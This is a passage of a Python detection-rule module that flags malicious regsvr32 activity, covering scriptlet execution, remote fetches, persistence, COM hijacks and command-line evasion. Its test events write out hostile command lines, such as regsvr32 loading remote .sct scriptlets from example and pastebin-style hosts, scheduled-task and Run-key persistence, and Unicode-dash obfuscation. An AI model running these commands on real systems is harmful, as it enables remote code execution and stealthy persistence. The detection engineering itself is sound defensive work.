         ("L18", "Splunk 7349a9e9", "Sigma 0ba1da6d", "Elastic EP b0207677"), (PROCESS,),
         renamed_binary,
         (proc("svc.exe /s /u /i:http://example.com/a.sct scrobj.dll",
               image="C:\\Users\\Public\\svc.exe", OriginalFileName="REGSVR32.EXE"),
          proc("jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll",
               image="C:\\ProgramData\\jabber.exe", Description="Microsoft(C) Register Server")),
         (proc(LOCAL_DLL, OriginalFileName="REGSVR32.EXE"),
          proc("C:\\x\\tool.exe", image="C:\\x\\tool.exe", OriginalFileName="tool.exe"))),
    Rule("R32-020", "regsvr32.exe running from an unexpected folder",
         "An image named regsvr32.exe outside System32, SysWOW64, WinSxS and the Windows "
         "servicing folders: a copy planted next to a payload or a look-alike.",
         (T, "T1036.005"), 70, ("L19", "Sigma e4a6b256", "Splunk 326fdf44", "Elastic EP 35dedf0c",
                               "Sigma 933f0bb5"), (PROCESS,), unexpected_home,
         (proc("C:\\Users\\Public\\regsvr32.exe /c echo scrobj.exe /i:",
               image="C:\\Users\\Public\\regsvr32.exe"),),
         (proc(LOCAL_DLL), proc("regsvr32 /s x.dll", image="C:\\Windows\\SysWOW64\\regsvr32.exe"))),
    Rule("R32-021", "regsvr32 connected to a public address",
         "An outbound connection by regsvr32 to an internet address: fetching a scriptlet or "
         "talking to a controller.", (T, "T1105"), 70,
         ("L20", "Sigma c7e91a02", "Elastic fb02b8d3", "Splunk 2820f032"), (NETWORK,),
         _connection(True),
         (net("151.101.0.133"), net("104.20.208.21", "80")),
         (net("10.0.2.15"), net("151.101.0.133", initiated="false"))),
    Rule("R32-022", "regsvr32 connected to a non-public address",
         "An outbound connection by regsvr32 to a private, loopback, link-local or reserved "
         "address: internal staging servers and lateral movement; lower risk than a public one.",
         (T,), 30, ("L20", "Sigma c7e91a02"), (NETWORK,), _connection(False),
         (net("10.1.2.3", "445"),), (net("151.101.0.133"),)),
    Rule("R32-023", "regsvr32 resolved a host name",
         "A DNS query by regsvr32 (Sysmon 22). The default allowlist keeps certificate "
         "revocation and OCSP hosts.", (T, "T1105"), 50,
         ("L20", "Sigma 36e037c4", "Elastic 1fe3b299"), (DNS,), dns_query,
         ({"EventCode": "22", "Image": SYS32, "QueryName": "raw.githubusercontent.com"},),
         ({"EventCode": "22", "Image": "C:\\Windows\\System32\\svchost.exe",
           "QueryName": "regsvr32.example"},)),
    Rule("R32-024", "regsvr32 run with no arguments",
         "regsvr32 with nothing to register does nothing by itself: a sacrificial process "
         "for injected code (Cobalt Strike spawnto).", (T, "T1055"), 70,
         ("L21", "Sigma a7c3d773", "Sigma 20384606", "Elastic EP 95601d8b"), (PROCESS,),
         _of_command_line(no_arguments),
         (proc("C:\\Windows\\SysWOW64\\regsvr32.exe", image="C:\\Windows\\SysWOW64\\regsvr32.exe"),
          proc("\"regsvr32.exe\"  ")),
         (proc(LOCAL_DLL), {"EventCode": "4688", "NewProcessName": SYS32, "CommandLine": ""})),
    Rule("R32-025", "regsvr32 loaded an unsigned module from outside Windows and Program Files",
         "Sysmon image load: Signed=false and the module is not under Windows or Program "
         "Files (the seed analytics' unsigned-load logic).", (T,), 70,
         ("CAR-2019-04-002", "Veramine", "L22"), (IMAGE_LOAD,), unsigned_outside,
         (load("C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll", signed="false",
               status="Unavailable", signature=""),),
         (load("C:\\Windows\\System32\\msxml6.dll"),
          load("C:\\Program Files\\K-Lite Codec Pack\\Filters\\x.ax", signed="false",
               status="Unavailable", signature=""))),
    Rule("R32-026", "regsvr32 loaded a module without a trusted signature",
         "Sysmon image load whose Signed is not true and whose SignatureStatus is not "
         "Valid/Trusted/expired/chaining (Sigma b5de0c9a), wherever the module is.", (T,), 45,
         ("L22", "Sigma b5de0c9a"), (IMAGE_LOAD,), untrusted_signature,
         (load("C:\\Program Files\\Vendor\\x.dll", signed="false", status="Unavailable",
               signature=""),),
         (load("C:\\Windows\\System32\\msxml6.dll"),
          load("C:\\Program Files\\Vendor\\x.dll", signed="false", status="Expired", signature=""))),
    Rule("R32-027", "regsvr32 loaded the scriptlet runtime",
         "regsvr32 loaded scrobj.dll: a scriptlet is running, whatever the command line said "
         "(it also catches a renamed scrobj.dll copy loaded under its real name).", (T,), 75,
         ("Veramine", "L25", "Elastic 4ed678a9"), (IMAGE_LOAD,), script_runtime_load,
         (load("C:\\Windows\\System32\\scrobj.dll"),),
         (load("C:\\Windows\\System32\\msxml6.dll"),
          load("C:\\Windows\\System32\\scrobj.dll", image="C:\\Windows\\System32\\cscript.exe"))),
    Rule("R32-028", ".NET runtime inside regsvr32 (DotNetToJScript)",
         "regsvr32 loaded clr.dll, mscoree.dll or mscorlib, or wrote the .NET usage log "
         "UsageLogs\\regsvr32.exe.log: a scriptlet is running .NET code.", (T, "T1620"), 75,
         ("L24", "Veramine", "Sigma 4508a70e", "Sigma e0b06658", "Elastic acf738b5", "LOLBAS"),
         (IMAGE_LOAD, FILE), clr_in_regsvr32,
         (load("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\clr.dll"),
          {"EventCode": "11", "Image": SYS32, "TargetFilename":
           "C:\\Users\\bob\\AppData\\Local\\Microsoft\\CLR_v4.0_32\\UsageLogs\\regsvr32.exe.log"}),
         (load("C:\\Windows\\System32\\msxml6.dll"),
          {"EventCode": "11", "Image": SYS32, "TargetFilename": "C:\\Users\\bob\\x.log"})),
    Rule("R32-029", "regsvr32 loaded a module from a user-writable folder or with an odd extension",
         "Sysmon image load of a module in a user-writable, suspicious or network location, or "
         "whose extension is not one a loaded module has (Elastic 76da5dca).", (T,), 60,
         ("Veramine", "L12", "Elastic EP 76da5dca", "Sentinel f24f6403"), (IMAGE_LOAD,),
         odd_module_load,
         (load("C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg"),
          load("C:\\Users\\Public\\x.dll", signed="false", status="Unavailable", signature="")),
         (load("C:\\Windows\\System32\\msxml6.dll"),
          load("C:\\Program Files\\Vendor\\x.ocx"))),
    Rule("R32-030", "Scriptlet runtime loaded by an unexpected Windows program",
         "A System32 or SysWOW64 program outside the usual script hosts loaded scrobj.dll "
         "(Elastic 4ed678a9); regsvr32 itself is R32-027.", (T,), 45,
         ("L25", "Elastic 4ed678a9"), (IMAGE_LOAD,), scrobj_elsewhere,
         (load("C:\\Windows\\System32\\scrobj.dll", image="C:\\Windows\\System32\\rundll32.exe"),),
         (load("C:\\Windows\\System32\\scrobj.dll", image="C:\\Windows\\System32\\cscript.exe"),
          load("C:\\Windows\\System32\\scrobj.dll"))),
    Rule("R32-031", "COM class pointed at scrobj.dll or a scriptlet URL",
         "A registry write that makes a COM class's InprocServer32 scrobj.dll or sets a "
         "ScriptletURL: a scriptlet COM hijack that runs whenever the class is used.",
         ("T1546.015", T), 70, ("L26", "Sigma fe20dda1", "Elastic 16a52c14", "Splunk 127c8d08"),
         (REGISTRY,), scrobj_com,
         (reg("HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}"
              "\\InprocServer32\\(Default)", "C:\\WINDOWS\\system32\\scrobj.dll",
              image="C:\\Windows\\System32\\reg.exe"),
          reg("HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}"
              "\\ScriptletURL\\(Default)", "https://example.org/a.sct",
              image="C:\\Windows\\System32\\reg.exe")),
         (reg("HKLM\\SOFTWARE\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)",
              "C:\\Windows\\System32\\scrobj.dll.bak\\x.dll"),
          reg("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "scrobj"),
          reg("HKLM\\SOFTWARE\\Classes\\CLSID\\{2}\\InprocServer32\\(Default)",
              "C:\\Program Files\\A\\a.dll"))),
    Rule("R32-032", "Icon-overlay handler registered by regsvr32",
         "regsvr32 wrote under ShellIconOverlayIdentifiers: an Explorer shell extension that "
         "loads in every Explorer process (persistence; Veramine). The default allowlist keeps "
         "the Dropbox client's overlays.", (T, "T1546.015"), 55, ("Veramine",), (REGISTRY,),
         icon_overlay,
         (reg("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
              "ShellIconOverlayIdentifiers\\  Updater\\(Default)", "{0F0F0F0F-1111-2222-3333-444455556666}"),),
         (reg("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
              "ShellIconOverlayIdentifiers\\ Updater\\(Default)", "{0F0F}",
              image="C:\\Windows\\explorer.exe"),)),
    Rule("R32-033", "regsvr32 created a thread in another process",
         "Sysmon CreateRemoteThread with regsvr32 as the source: code injection from the "
         "registered module.", (T, "T1055"), 80, ("L34", "Sigma 02d1d718"), (REMOTE_THREAD,),
         remote_thread,
         ({"EventCode": "8", "SourceImage": SYS32, "TargetImage": "C:\\Windows\\explorer.exe"},),
         ({"EventCode": "8", "SourceImage": "C:\\Windows\\System32\\csrss.exe",
           "TargetImage": SYS32},)),
    Rule("R32-034", "Persistence that launches regsvr32",
         "A scheduled task, service, autorun registry value, or a schtasks/reg/sc command "
         "that will run regsvr32 later.", (T, "T1053.005", "T1543.003", "T1547.001"), 65,
         ("L33", "Sigma 3a734d25", "Sigma 614cf376", "CAR-2021-12-001"),
         (PERSISTENCE, REGISTRY, PROCESS), persistence,
         (reg("HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
              "regsvr32 /s %APPDATA%\\upd.dll", image="C:\\Windows\\System32\\reg.exe"),
          proc("schtasks /create /sc minute /tn u /tr \"regsvr32 /s C:\\Users\\Public\\u.dll\"",
               image="C:\\Windows\\System32\\schtasks.exe"),
          {"EventCode": "7045", "ImagePath": "regsvr32.exe /s C:\\ProgramData\\svc.dll"},
          reg("HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath",
              "regsvr32.exe /s C:\\ProgramData\\upd.dll", image="C:\\Windows\\System32\\services.exe")),
         (reg("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "C:\\x\\tool.exe"),
          proc("schtasks /query", image="C:\\Windows\\System32\\schtasks.exe"))),
    Rule("R32-035", "Path or switch syntax that evades string rules",
         "Forward slashes, '..' in an absolute path, 8.3 short names, \\\\?\\ or \\\\.\\ "
         "prefixes, NTFS alternate data streams, unexpanded %VARIABLES% or switches run "
         "together (/s/u/i:): forms that only serve to get past substring rules.",
         (T, "T1027.010"), 55, ("L29", "Elastic EP 5db08297"), (PROCESS,),
         _of_command_line(path_syntax),
         (proc("regsvr32 /s C:/Users/Public/x.dat"), proc("regsvr32 /s C:\\PROGRA~3\\x.dat"),
          proc("regsvr32 /s C:\\Users\\Public\\x.txt:payload.dll"),
          proc("regsvr32 /s/u/i:http://example.com/a.sct scrobj.dll")),
         (proc(LOCAL_DLL), proc("regsvr32 /s ..\\lib\\x.dll", CurrentDirectory="C:\\App\\bin"))),
    Rule("R32-036", "Unicode look-alikes in the command line",
         "Switches written with Unicode dashes (U+2013, U+2014, U+2015) or modifier letters "
         "in the command line: obfuscation aimed at literal-string rules.", (T, "T1027.010"), 70,
         ("L30", "Elastic 37148ae6", "Sigma b236190c"), (PROCESS,), _of_command_line(unicode_tricks),
         (proc("regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll"),
          proc("regsvr32 /s C:\\x\\\u02b0a.dll")),
         (proc(LOCAL_DLL),)),
    Rule("R32-037", "Module on another drive or mounted media",
         "The module (resolved against the working directory) is on a drive other than C:, "
         "as when a mounted ISO or USB stick carries the payload. Low risk: servers keep "
         "software on other drives.", (T,), 35, ("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
         (PROCESS,), _of_command_line(other_drive),
         (proc("regsvr32 /s E:\\invoice.dll"),
          proc("regsvr32 /s x.dll", CurrentDirectory="D:\\")),
         (proc(LOCAL_DLL),)),
    Rule("R32-038", "Known campaign pattern",
         "Patterns of named campaigns: Qakbot (-s ... calc), BlueMushroom (,DllEntry from "
         "AppData\\Local), EvilNum (/s /i .ocx from AppData\\Roaming).", (T,), 90,
         ("L31", "Sigma 0033cf83", "Sigma bd70d3f8", "Sigma 8acf3cfa"), (PROCESS,),
         _of_command_line(campaign),
         (proc("regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll calc"),
          proc("regsvr32 /s C:\\Users\\bob\\AppData\\Local\\x.dll,DllEntry"),
          proc("regsvr32 /s /i C:\\Users\\bob\\AppData\\Roaming\\a.ocx")),
         (proc(LOCAL_DLL), proc("regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll"))),
    Rule("R32-039", "Module in an unusual folder",
         "A module with an absolute (or resolved) path outside Windows, Program Files, "
         "ProgramData and user profiles, such as C:\\AtomicRedTeam\\ or C:\\Tools\\ "
         "(Sigma 327ff235's second branch, on the parsed module). Low risk on its own: line-of-"
         "business software lives in such folders too.", (T,), 35, ("L10", "Sigma 327ff235"),
         (PROCESS,), _of_command_line(unusual_folder),
         (proc("regsvr32.exe C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll"),
          proc("regsvr32 /u x.dll", CurrentDirectory="C:\\Tools\\")),
         (proc(LOCAL_DLL), proc(PF_DLL), proc("regsvr32 /s C:\\Users\\Public\\x.dll"))),
)

RULES_BY_ID = dict((r.id, r) for r in RULES)
# (event kind, whether the event's process is regsvr32) -> the rules to run, in order
RULES_FOR = dict(((kind, own), tuple(r for r in RULES if kind in r.kinds
                                     and (own or not r.regsvr32_only)))
                 for kind in (PROCESS, NETWORK, IMAGE_LOAD, REMOTE_THREAD, FILE, REGISTRY,
                              DNS, PERSISTENCE) for own in (True, False))


# Interim: which family (families.FAMILIES key) each rule belongs to; moves into each rule's
# declaration with the registry rework.
_FAMILY_RULES = {
    "scriptlets_and_remote_payloads": "001 002 003 004 012 013",
    "suspicious_paths_and_disguised_extensions": "007 008 009 010 011 037 038 039",
    "implicit_dllregisterserver_and_odd_invocations": "005 006 024 035 036",
    "parent_lineage": "014 015 016",
    "children_of_regsvr32": "017 018 033",
    "renamed_or_relocated_binary": "019 020",
    "image_loads": "025 026 027 028 029 030",
    "network": "021 022 023",
    "registry_persistence_and_scrobj_com_hijack": "031 032 034",
}
for _family, _ids in _FAMILY_RULES.items():
    for _n in _ids.split():
        RULES_BY_ID["R32-" + _n].family = _family
